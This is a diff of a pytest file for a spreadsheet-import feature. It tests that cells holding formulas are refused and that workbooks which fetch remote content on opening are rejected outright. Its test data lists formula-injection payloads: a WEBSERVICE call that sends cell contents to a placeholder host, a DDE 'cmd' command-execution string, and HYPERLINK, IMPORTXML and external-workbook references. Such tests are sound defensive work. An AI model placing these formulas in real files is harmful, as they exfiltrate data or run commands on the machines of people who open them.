@@ -7,8 +7,9 @@ import pytest
 
 from comity.agreements.bringing.lines import read_lines
 from comity.agreements.bringing.rows import preview
+from comity.agreements.models import BroughtRegister
 from comity.partners.tables import LARGEST, NotATable
-from tests.agreements.test_bringing import brought, workbook
+from tests.agreements.test_bringing import BACKEND, brought, workbook
 
 ROWS = [["Title", "Partner", "Signed on"], ["Memorandum", "PA", "2021-04-16"]]
 WITH_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
@@ -60,26 +61,50 @@ def test_of_a_file_of_a_hundred_megabytes_no_more_is_read_than_shows_that_it_is_
     assert file.read_bytes == LARGEST + 1
 
 
-@pytest.mark.parametrize(
-    "formula",
-    [
-        '=WEBSERVICE("https://example.org/?"&A1)',
-        '=HYPERLINK("https://example.org/?"&A1)',
-        '=HYPERLINK("https://example.org/?"&A1,A1)',
-        "=cmd|' /C calc'!A0",
-        '=IMPORTXML("https://example.org/","//a")',
-        "='https://example.org/[other.xlsx]Sheet1'!A1",
-    ],
-)
-@pytest.mark.parametrize("is_workbook", [True, False])
-def test_a_formula_that_fetches_is_neither_worked_out_nor_entered(office, formula, is_workbook):
-    rows = [ROWS[0], [formula, *ROWS[1][1:]]]
-    lines = read_lines(workbook(rows), "register.xlsx") if is_workbook else rows
+FETCHES = ['=WEBSERVICE("https://example.org/?"&A1)', "=cmd|' /C calc'!A0"]
+POINTS_ELSEWHERE = [
+    '=HYPERLINK("https://example.org/?"&A1)',
+    '=HYPERLINK("https://example.org/?"&A1,A1)',
+    '=IMPORTXML("https://example.org/","//a")',
+    "='https://example.org/[other.xlsx]Sheet1'!A1",
+]
 
+
+def told_of(office, lines):
+    """What became of the one row of a table: its state, and what speaks against it."""
     row = preview(brought(office, lines)).rows[0]
+    return str(row.state), " ".join(row.faults)
 
-    assert str(row.state) == "refused"
-    assert "formula" in " ".join(row.faults)
+
+@pytest.mark.parametrize("formula", [*FETCHES, *POINTS_ELSEWHERE])
+def test_a_formula_in_a_table_of_text_is_neither_worked_out_nor_entered(office, formula):
+    state, faults = told_of(office, [ROWS[0], [formula, *ROWS[1][1:]]])
+
+    assert state == "refused"
+    assert "formula" in faults
+
+
+@pytest.mark.parametrize("formula", POINTS_ELSEWHERE)
+def test_a_formula_in_a_workbook_is_neither_worked_out_nor_entered(office, formula):
+    state, faults = told_of(office, read_lines(workbook([ROWS[0], [formula, *ROWS[1][1:]]]), "register.xlsx"))
+
+    assert state == "refused"
+    assert "formula" in faults
+
+
+@pytest.mark.parametrize("formula", FETCHES)
+def test_a_workbook_that_fetches_when_it_is_opened_is_refused_as_a_whole_and_nothing_of_it_is_kept(
+    office, client, formula
+):
+    client.force_login(office.officer, backend=BACKEND)
+    file = workbook([ROWS[0], [formula, *ROWS[1][1:]]])
+    file.name = "register.xlsx"
+
+    page = client.post("/en/agreements/registers/", {"file": file})
+
+    assert page.status_code == 422
+    assert "fetches something from elsewhere" in page.text
+    assert not BroughtRegister.objects.exists()
 
 
 def test_of_a_link_the_words_are_read_and_its_address_is_kept_nowhere(office):
